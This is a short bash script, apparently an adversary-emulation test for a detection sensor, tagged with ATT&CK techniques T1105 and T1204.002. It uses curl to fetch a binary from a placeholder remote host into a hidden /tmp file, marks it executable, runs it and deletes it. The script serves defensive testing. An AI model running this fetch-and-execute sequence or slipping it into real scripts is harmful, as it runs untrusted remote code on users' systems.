#!/usr/bin/env bash
# tactic: execution
# technique: T1105 Ingress Tool Transfer; T1204.002 User Execution: Malicious File
# behaviour: downloads a binary with curl into /tmp, makes it executable and runs it
# as: user
# needs: remote
# expect: exec_from_writable
set -u
curl -s -m 5 -o /tmp/.x-$SNTL_ID http://$SNTL_REMOTE:8080/tool
chmod +x /tmp/.x-$SNTL_ID
/tmp/.x-$SNTL_ID
rm -f /tmp/.x-$SNTL_ID
